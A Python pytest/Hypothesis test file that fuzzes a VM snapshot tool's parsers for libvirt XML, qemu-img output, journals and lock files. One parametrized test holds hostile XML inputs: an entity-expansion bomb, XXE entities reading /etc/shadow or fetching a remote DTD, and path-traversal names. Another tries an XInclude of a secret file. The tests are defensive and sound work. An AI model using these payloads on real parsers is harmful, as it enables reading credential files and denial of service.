"""Whatever libvirt, qemu-img or a disk hands us: an error of ours or a result, nothing else.

`--hypothesis-profile deep --hypothesis-seed N` tries far more.
"""

import json
import time
from contextlib import suppress
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as some

from vmsnap.errors import ImageError, UnsupportedError, VmsnapError
from vmsnap.host import live_xml
from vmsnap.host.domain_xml import XmlDefinitions
from vmsnap.host.foreign_xml import foreign_snapshot
from vmsnap.host.image_info import parse_chain, parse_end
from vmsnap.host.journal_files import FolderJournals
from vmsnap.host.locks import FileLocks
from vmsnap.host.snapshot_xml import switch_request

DOMAIN_ID = "aaaaaaaa-0000-4000-8000-000000000001"
UUID = f"<uuid>{DOMAIN_ID}</uuid>"
MIB = 1024 * 1024
DEFINITIONS = XmlDefinitions(Path("/nvram"), Path("/swtpm"))

# The words that the readers look for, so that chance finds its way behind the first `find`.
TAG_WORDS = """
    domain name uuid os type loader nvram varstore source firmware feature devices
    disk target driver readonly shareable encryption transient backingStore mirror
    tpm backend slices channel boot address domainsnapshot disks memory
    inactiveDomain host secmodel model baselabel description
"""
TAGS = some.sampled_from(TAG_WORDS.split())
NAME_WORDS = """
    type file dev dir path name snapshot format device pool volume firmware secure
    stateless readonly version secret model arch bus order job ready state passwd
"""
NAMES = some.sampled_from(NAME_WORDS.split())
# Characters that XML can hold, and a few values that mean something.
CHARACTERS = some.characters(exclude_categories=["Cs"], min_codepoint=32)
VALUE_WORDS = """
    file block volume pflash efi yes no emulator 2.0 qcow2 vda /a ../a /var/../etc
    internal external +1:+2 -1
"""
VALUES = some.one_of(
    some.text(CHARACTERS, max_size=8),
    some.sampled_from(VALUE_WORDS.split()),
    some.sampled_from(["\n", DOMAIN_ID]),
)
ATTRIBUTES = some.dictionaries(NAMES, VALUES, max_size=3)
JSON = some.recursive(
    some.none()
    | some.booleans()
    | some.integers()
    | some.integers(min_value=10**300, max_value=10**310)
    | some.floats()
    | some.text(max_size=8),
    lambda inner: some.lists(inner, max_size=3) | some.dictionaries(some.text(), inner, max_size=3),
    max_leaves=8,
)
IMAGE_WORDS = """
    filename format virtual-size actual-size full-backing-filename backing-filename
    backing-filename-format encrypted cluster-size snapshots format-specific
    image-end-offset
"""
IMAGE_KEYS = some.sampled_from(IMAGE_WORDS.split())
FILE_NAMES = some.text(max_size=6).map(lambda text: f"/no/{text}")


def element(tag, attributes, children):
    from xml.sax.saxutils import escape, quoteattr

    head = "".join(f" {name}={quoteattr(value)}" for name, value in attributes.items())
    inner = "".join(child if child.startswith("<") else escape(child) for child in children)
    return f"<{tag}{head}>{inner}</{tag}>"


ELEMENTS = some.recursive(
    some.builds(element, TAGS, ATTRIBUTES, some.lists(VALUES, max_size=1)),
    lambda inner: some.builds(element, TAGS, ATTRIBUTES, some.lists(inner, max_size=5)),
    max_leaves=25,
)
NAMED = some.builds(
    lambda children: f"<domain><name>x</name>{UUID}{''.join(children)}</domain>",
    some.lists(ELEMENTS, max_size=5),
)
XML = some.one_of(NAMED, ELEMENTS, some.text(), some.text().map(lambda text: f"<domain>{text}"))


def use(xml):
    with suppress(VmsnapError):
        DEFINITIONS.parse(xml)
    for change in (
        lambda: DEFINITIONS.with_fence(xml),
        lambda: DEFINITIONS.without_fence(xml),
        lambda: DEFINITIONS.with_missing_source(xml),
        lambda: DEFINITIONS.with_sources(xml, {"vda": (Path("/x\x01"), "qcow2")}),
        lambda: DEFINITIONS.with_name(xml, "new"),
        lambda: DEFINITIONS.with_disks_of(xml, xml, ["vda", "vdb"]),
        lambda: DEFINITIONS.same(xml, xml),
        lambda: DEFINITIONS.shown_lines(xml),
        lambda: live_xml.mirror_of(xml, "vda"),
        lambda: live_xml.disk_chains(xml),
        lambda: live_xml.agent_state(xml),
        lambda: live_xml.host_uuid(xml),
        lambda: live_xml.qemu_owner(xml),
        lambda: foreign_snapshot(xml),
    ):
        with suppress(VmsnapError):
            change()


@given(XML)
def test_any_xml_is_read_and_patched_or_refused(xml):
    use(xml)


@given(some.binary(max_size=64).map(lambda data: data.decode("utf-8", "surrogateescape")))
def test_bytes_that_are_no_xml_are_refused(text):
    use(text)


BOMB = "".join(f'<!ENTITY a{i} "{f"&a{i - 1};" * 10}">' for i in range(1, 12))


@pytest.mark.parametrize(
    "document",
    [
        f'<!DOCTYPE domain [<!ENTITY a0 "ha">{BOMB}]><domain><name>&a11;</name>{UUID}</domain>',
        f'<!DOCTYPE domain [<!ENTITY a0 "ha">{BOMB}]><domain><name x="&a11;"/>{UUID}</domain>',
        f'<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/shadow">]><domain>&x;{UUID}</domain>',
        f'<!DOCTYPE domain SYSTEM "file:///etc/shadow"><domain><name>x</name>{UUID}</domain>',
        f'<!DOCTYPE d [<!ENTITY % x SYSTEM "http://203.0.113.1/x"> %x;]><domain>{UUID}</domain>',
        f"<domain>{'<a>' * 100_000}{'</a>' * 100_000}</domain>",
        f"<domain><name>x</name>{UUID}<description>{'x' * 11 * MIB}</description></domain>",
        f"<domain><name>../x</name>{UUID}</domain>",
        "<domain><name>x</name><uuid>../../etc/x</uuid></domain>",
        f"<domain>{UUID}</domain>",
        "<domain><name>x</name></domain>",
        "<domain/>",
    ],
    ids=str.split(
        "bomb bomb-in-attribute file outer-file net deep huge name uuid no-name no-uuid none"
    ),
)
def test_hostile_xml_is_refused_soon(document):
    began = time.monotonic()
    with pytest.raises(UnsupportedError):
        DEFINITIONS.parse(document)
    assert time.monotonic() - began < 5


def test_ten_megabytes_of_disks_are_read():
    """Large, but nothing is wrong with it: read or refused, and not for ever."""
    disk = '<disk type="file"><source file="/a"/><target dev="vda"/></disk>'
    count = 10 * MIB // len(disk)
    xml = f"<domain><name>x</name>{UUID}<devices>{disk * count}</devices></domain>"
    assert [item.target for item in DEFINITIONS.parse(xml).disks] == ["vda"]


def test_xinclude_is_not_followed(tmp_path):
    (tmp_path / "secret").write_text("hush")
    include = f'<xi:include href="{tmp_path}/secret" parse="text"/>'
    xml = (
        f'<domain xmlns:xi="http://www.w3.org/2001/XInclude"><name>x</name>{UUID}'
        f"<description>{include}</description></domain>"
    )
    assert "hush" not in DEFINITIONS.with_fence(xml)
    assert DEFINITIONS.parse(xml).name == "x"


@given(some.text(CHARACTERS, max_size=8))
def test_an_overlay_s_name_cannot_add_to_what_libvirt_is_asked(text):
    from lxml import etree

    path = Path(f"/images/{text}")
    root = etree.fromstring(switch_request(["vda"], {"vda": path}))
    assert [item.get("file") for item in root.iter("source")] == [str(path)]
    assert {item.tag for item in root.iter()} == {
        "domainsnapshot",
        "disks",
        "disk",
        "driver",
        "source",
    }


@given(some.dictionaries(IMAGE_KEYS, JSON | FILE_NAMES, max_size=8) | JSON)
def test_any_answer_of_qemu_img_is_read_or_an_image_error(answer):
    for output in (json.dumps(answer).encode(), json.dumps([answer, answer]).encode()):
        for read in (parse_chain, parse_end):
            with suppress(ImageError):
                read(output)


@given(some.binary(max_size=40))
def test_bytes_that_are_no_answer_of_qemu_img_are_an_image_error(output):
    for read in (parse_chain, parse_end):
        with suppress(ImageError):
            read(output)


@pytest.mark.parametrize(
    "output",
    [
        b"[" * 100_000,
        b'{"a":' * 100_000,
        b"9" * 10_000,
        b'{"filename": "/a\\u0000b", "format": "raw"}',
        b'{"filename": "/a\\ud800b", "format": "raw"}',
        b'{"filename": "' + b"/a" * 5000 + b'", "format": "raw"}',
        b'{"filename": "/a", "format": "raw", "backing-filename": "/\\u0000"}',
    ],
)
def test_an_odd_answer_of_qemu_img_is_an_image_error(output):
    with pytest.raises(ImageError):
        parse_chain(output)
    with pytest.raises(ImageError):
        parse_end(output)


LINES = some.lists(
    JSON.map(lambda value: json.dumps(value).encode()) | some.binary(max_size=20), max_size=5
).map(b"\n".join)


@given(LINES)
def test_any_journal_file_is_read_or_an_error_of_ours(tmp_path_factory, data):
    journals = FolderJournals(tmp_path_factory.mktemp("state"))
    with suppress(VmsnapError):
        journals.start(DOMAIN_ID, {"format": 1})
        path = next(tmp_path_factory.getbasetemp().glob("state*/journal/*.jsonl"))
        path.write_bytes(data)
        assert all(isinstance(entry, dict) for entry in journals.load(DOMAIN_ID))
        journals.append(DOMAIN_ID, {"done": 0})
    for path in tmp_path_factory.getbasetemp().glob("state*/journal/*.jsonl"):
        path.unlink()


@pytest.mark.parametrize("deep", [b"[" * 100_000, b'{"a":' * 100_000, b"9" * 10_000])
def test_a_journal_line_that_nests_too_deep_is_damage(tmp_path, deep):
    journals = FolderJournals(tmp_path)
    journals.start(DOMAIN_ID, {"format": 1})
    path = tmp_path / "journal" / f"{DOMAIN_ID}.jsonl"
    path.write_bytes(path.read_bytes() + deep + b"\n{}\n")
    with pytest.raises(VmsnapError, match="is damaged in line 2"):
        journals.load(DOMAIN_ID)


HOLDERS = some.one_of(
    some.fixed_dictionaries(
        {"pid": JSON, "verb": JSON, "since": JSON}, optional={"birth": JSON}
    ).map(lambda value: json.dumps(value).encode()),
    some.binary(max_size=40),
    some.sampled_from([b"[" * 4096, b'{"pid": 1e999, "verb": "a", "since": "b"}', b'{"pid": -1}']),
)


@settings(max_examples=30)
@given(HOLDERS)
def test_whatever_a_lock_file_says_its_holder_is_told_or_unknown(tmp_path_factory, text):
    folder = tmp_path_factory.getbasetemp()
    one, other = FileLocks(folder), FileLocks(folder)
    with one.hold(DOMAIN_ID, "a", 0):
        (folder / "locks" / f"{DOMAIN_ID}.lock").write_bytes(text)
        with pytest.raises(VmsnapError), other.hold(DOMAIN_ID, "b", 0):
            pass
